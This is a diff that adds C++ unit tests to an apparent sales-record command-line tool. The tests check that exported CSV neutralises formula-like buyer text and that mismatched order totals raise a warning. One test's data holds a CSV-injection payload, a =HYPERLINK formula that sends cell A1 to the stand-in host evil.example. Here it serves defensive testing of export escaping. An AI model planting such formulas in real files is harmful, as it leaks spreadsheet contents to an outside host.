@@ -88,6 +88,35 @@ TEST_F(Cli, ImportedRecordsExportAndImportElsewhereByteForByte)
     EXPECT_EQ(TestSupport::readBytes(other.file("again.csv")), first);
 }
 
+TEST_F(Cli, AnExportOfBuyersTextThatWouldRunAsAFormulaReadsBackAsTheSameRecords)
+{
+    const QByteArray sales =
+        "User Name,Auction Name,Auction Total,Close Date\r\n"
+        "\"=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\",@SUM(A1),-4.5,3/7/2024\r\n"
+        "'quoted,+lamp,12,3/8/2024\r\n";
+    ASSERT_EQ(import(sales), 0);
+    ASSERT_EQ(run({"export", folder.file("out.csv")}).exitCode, 0);
+    const QByteArray exported = TestSupport::readBytes(folder.file("out.csv"));
+    // In stored order: Close Date, Auction Name, Auction URL, Auction Total, User Name.
+    EXPECT_TRUE(exported.contains("\r\n3/7/2024,'@SUM(A1),,-4.5,\"'=HYPERLINK(\"\"http:"))
+        << exported.constData();
+    EXPECT_TRUE(exported.contains("\r\n3/8/2024,'+lamp,,12,'quoted,")) << exported.constData();
+
+    TestSupport::TempFolder other;
+    ASSERT_EQ(cli(other.path(), {"import", folder.file("out.csv")}).exitCode, 0);
+    const auto names = [](const QString &db) {
+        QStringList n;
+        for (const FieldValues &v : TestSupport::storedValues(db))
+            n << v[Fields::index(Field::UserName)] + "|" + v[Fields::index(Field::AuctionName)];
+        return n;
+    };
+    EXPECT_EQ(names(other.dbPath()),
+              QStringList({"=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")|@SUM(A1)",
+                           "'quoted|+lamp"}));
+    ASSERT_EQ(cli(other.path(), {"export", other.file("again.csv")}).exitCode, 0);
+    EXPECT_EQ(TestSupport::readBytes(other.file("again.csv")), exported);
+}
+
 TEST_F(Cli, MalformedFileNamesItsLineAndImportsNothing)
 {
     importSales();
@@ -137,6 +166,23 @@ TEST_F(Cli, ImportOrdersPrintsTheFormatAndWhatWasDoneAndADryRunWritesNothing)
         << r.err.toStdString();
     EXPECT_EQ(run({"import-orders", folder.file("none.csv")}).exitCode, 1);
     EXPECT_EQ(stored(), 5);
+}
+
+TEST_F(Cli, ImportOrdersWarnsOfAnOrderWhoseRecordsDoNotAddUpToTheFilesTotal)
+{
+    const QByteArray orders =
+        "Order Number,Buyer Username,Item Number,Item Title,Sold For,Delivery Charge,Total Price,"
+        "Sale Date\r\n"
+        "7-1,dan,901,Clock,$5.00,$4.00,$9.00,Mar-10-24\r\n"
+        "7-2,eve,902,Vase,$6.00,,$6.00,Mar-10-24\r\n";
+    TestSupport::writeBytes(folder.file("orders.csv"), orders);
+    const CliRun r = run({"import-orders", folder.file("orders.csv")});
+    EXPECT_EQ(r.exitCode, 0) << r.err.toStdString();
+    EXPECT_EQ(r.err, "lotwise-cli: warning: " + folder.file("orders.csv") +
+                         ", line 2: order 7-1 totals 9.00 in the file, but its records come to "
+                         "5.00.\n");
+    EXPECT_EQ(r.out, "Format: eBay Seller Hub Orders report\nAdded 2, updated 0, unchanged 0.\n");
+    EXPECT_EQ(stored(), 2);
 }
 
 TEST_F(Cli, QueuePrintsTheRowsCaptionAndTitleForTheGivenDay)
